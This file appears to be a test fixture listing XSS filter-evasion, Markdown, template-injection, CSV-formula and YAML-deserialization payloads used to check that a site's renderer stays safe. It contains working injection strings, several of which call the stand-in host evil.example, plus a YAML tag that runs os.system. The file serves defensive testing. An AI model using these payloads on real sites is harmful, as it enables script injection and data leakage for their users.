"""Hostile inputs for tests/test_hostile.py: the OWASP XSS filter-evasion classes, and Markdown's own.

Each payload is a template: ``{M}`` is replaced by a marker unique to the payload and the field it
is put in (so whatever survives into a page names where it came from), ``{JS}`` by script that shows
the marker in a dialog (``alert(/marker/.source)``: no quotes, so it survives most escaping). A
payload that ran would open a dialog with its marker; one that only reached the HTML leaves its
marker in an attribute or a script, where the HTML scan finds it.
"""

from __future__ import annotations

from dataclasses import dataclass

JS = "alert(/{M}/.source)"
EVIL = "evil.example"  # a host that is not the site: any request to it is a finding


@dataclass(frozen=True)
class Payload:
    """One hostile input: an id, its class (OWASP's or Markdown's), and its template."""

    id: str
    cls: str
    template: str
    literal: str = ""  # text that must be shown as written wherever the payload is shown (template syntax)

    def fill(self, marker: str) -> str:
        return self.template.replace("{JS}", JS).replace("{M}", marker)


def _p(cls: str, *templates: str, literal: str = "", start: int = 1) -> list[Payload]:
    return [Payload(f"{cls}-{index}", cls, template, literal) for index, template in enumerate(templates, start)]


PAYLOADS: list[Payload] = [
    *_p("script-tag",
        "<script>{JS}</script>",
        "<SCRIPT>{JS}</SCRIPT>",
        "<ScRiPt>{JS}</sCrIpT>",
        "<script src=//" + EVIL + "/{M}.js></script>",
        "<script/x>{JS}</script>",
        "<<script>{JS}//<</script>",
        "<script>{JS}",
        "<scr<script>ipt>{JS}</scr</script>ipt>",
        "<script\n>{JS}</script\n>"),
    *_p("event-handler",
        "<img src=x onerror={JS}>",
        '<IMG SRC=x OnErRoR="{JS}">',
        "<body onload={JS}>",
        '<div onmouseover="{JS}" style="position:fixed;inset:0">hover</div>',
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(/{M}/.source)>",
        "<input autofocus onfocus={JS}>",
        "<details open ontoggle={JS}>",
        "<video><source onerror={JS}></video>",
        '<img/src="x"/onerror="{JS}">',
        "<a href=# onclick={JS} onfocus={JS} autofocus>x</a>",
        "<img src=x:alert(alt) onerror=eval(src) alt=/{M}/.source>"),
    *_p("url-scheme",
        '<a href="javascript:{JS}">x</a>',
        '<a href="JaVaScRiPt:{JS}">x</a>',
        '<a href="&#x6A;avascript:{JS}">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}">x</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{JS}">x</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{JS}">x</a>',
        '<a href="java\tscript:{JS}">x</a>',
        '<a href="java\nscript:{JS}">x</a>',
        '<a href="java\x00script:{JS}">x</a>',
        '<a href="java&#x09;script:{JS}">x</a>',
        '<a href=" &#14;  javascript:{JS}">x</a>',
        '<a href="vbscript:msgbox(/{M}/.source)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}">x</a>',
        '<a href="data:text/html,<script>{JS}</script>">x</a>',
        "javascript:{JS}",
        "&#x6A;avascript:{JS}",
        "java\tscript:{JS}",
        '<img src="javascript:{JS}">'),
    *_p("svg-mathml",
        "<svg onload={JS}>",
        "<svg/onload={JS}>",
        "<svg><script>{JS}</script></svg>",
        '<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>x</text></a></svg>',
        "<svg><animate onbegin={JS} attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
        '<math><maction actiontype="statusline" xlink:href="javascript:{JS}">x</maction></math>',
        "<svg></p><style><a id=\"</style><img src=1 onerror={JS}>\">"),
    *_p("frame-object",
        '<iframe srcdoc="<script>{JS}</script>"></iframe>',
        '<iframe src="javascript:{JS}"></iframe>',
        '<object data="javascript:{JS}"></object>',
        '<embed src="data:text/html,<script>{JS}</script>">',
        '<base href="//' + EVIL + '/{M}/">',
        '<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
        '<form action="javascript:{JS}"><button>go</button></form>',
        '<form><button formaction="javascript:{JS}">x</button></form>',
        "<link rel=stylesheet href=//" + EVIL + "/{M}.css>",
        '<noscript><p title="</noscript><img src=x onerror={JS}>">'),
    *_p("style",
        '<div style="background:url(javascript:{JS})">x</div>',
        '<div style="width:expression({JS})">x</div>',
        "<style>@import '//" + EVIL + "/{M}.css';</style>",
        "<style>*{background:url(//" + EVIL + "/{M}.png)}</style>"),
    *_p("template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{ {M} }}", literal="{{7*7}}"),
    *_p("template", "{% for x in range(3) %}{M}{% endfor %}{# {M} #}", literal="{% for x in range(3) %}", start=2),
    *_p("template", "{{constructor.constructor('{JS}')()}}", literal="{{constructor.constructor(", start=3),
    *_p("jsonld-breakout",
        "</script><script>{JS}</script>",
        "</ScRiPt ><script>{JS}</script>",
        "<!--<script>{JS}//-->",
        "\u2028\u2029</script><img src=x onerror={JS}>"),
    *_p("comment-cdata",
        "<!--><img src=x onerror={JS}>-->",
        "<![CDATA[><img src=x onerror={JS}>]]>",
        "<!-- --!><img src=x onerror={JS}>",
        "<? ><img src=x onerror={JS}> ?>"),
    *_p("quote-breakout",
        '"><img src=x onerror={JS}>',
        "'><svg/onload={JS}>",
        '" onmouseover="{JS}" x="',
        "' onfocus='{JS}' autofocus x='",
        "</title><script>{JS}</script>",
        "</textarea></noscript></style><img src=x onerror={JS}>",
        "<img src=x onerror={JS} ",
        '<a href="https://ok.example/" onclick="{JS}"'),
    *_p("md-link",
        "[click](javascript:{JS})",
        "[click][hxref]\n\n[hxref]: javascript:{JS}",
        "<javascript:{JS}> <vbscript:{M}> <data:text/html,{M}>",
        "[a [b] c](javascript:{JS})",
        "[x](<javascript:{JS}>)",
        "[x](  JAVASCRIPT:{JS})",
        "[x](&#x6A;avascript:{JS}) [y](&#106avascript:{JS})",
        "[x](java\nscript:{JS})",
        '[x](https://ok.example/ "t\\" onmouseover=\\"{JS}") [y](https://ok.example/ \'t\\\' onmouseover={JS}\')'),
    *_p("md-image",
        "![img](https://" + EVIL + "/{M}.png)",
        "![img](javascript:{JS})",
        '![img](x.png "t\\" onerror=\\"{JS}")',
        "![img](//" + EVIL + "/{M}.png)",
        "![img](/\\" + EVIL + "/{M}.png)",
        "![img](&#1;//" + EVIL + "/{M}.png)",
        "![img][hximg]\n\n[hximg]: https://" + EVIL + "/{M}.png"),
    *_p("md-attr-list",
        'A paragraph. {: onclick="{JS}" }',
        '# A heading {: onmouseover="{JS}" }',
        '[x](https://ok.example/){: onclick="{JS}" } ![i](x.png){: onerror="{JS}" }',
        "A paragraph.\n{: #x onmouseover={JS} .y }"),
    *_p("md-extensions",
        "Note[^<img src=x onerror={JS}>].\n\n[^<img src=x onerror={JS}>]: <img src=x onerror={JS}>",
        'HTML\n\n*[HTML]: <img src=x onerror={JS}> " onmouseover="{JS}',
        '!!! note "<script>{JS}</script>"\n    <img src=x onerror={JS}>',
        "| a | b |\n|---|---|\n| <img src=x onerror={JS}> | [x](javascript:{JS}) |",
        "`<script>{JS}</script>`\n\n```\n<img src=x onerror={JS}>\n```",
        # Python-Markdown's footnotes raise RuntimeError on a definition nested in another's
        # continuation: no HTML in it, so the checker renders it too.
        "[^a{M}]: x\n\n    y[^b{M}]\n\n    [^b{M}]: z\n\n[^c{M}]: w"),
    # The theme's content.tooltips puts an element's title into the page as HTML (innerHTML): an
    # abbreviation's definition or a link's title, entity-encoded so that the checker sees no tag.
    *_p("md-tooltip",
        '&lt;meta http-equiv="refresh" content="0;url=https://' + EVIL + '/{M}"&gt;',
        "&lt;img src=x onerror={JS}&gt;",
        '<meta http-equiv="refresh" content="0;url=https://' + EVIL + '/{M}">',
        '&lt;base href="https://' + EVIL + '/{M}/"&gt;&lt;img src="https://' + EVIL + '/{M}.png"&gt;'),
    # Files besides the pages: an address with a line break passes for http(s) and lands in the
    # userscript's header, where a new line is code; a formula is run by the spreadsheet that opens claims.csv.
    *_p("data-file",
        "https://ok.example/\n{JS}//",
        "https://ok.example/\u2028{JS}//",
        '=HYPERLINK("https://' + EVIL + '/{M}","open")'),
    *_p("placeholder",
        "\ue0000\ue001 \ue00099\ue001 {M}",
        "&#xE000;0&#xE001; &#57344;1&#57345; {M}"),
    *_p("yaml-tag",
        "!!python/object/apply:os.system ['touch hostile-{M}']"),
]

assert len({p.id for p in PAYLOADS}) == len(PAYLOADS)
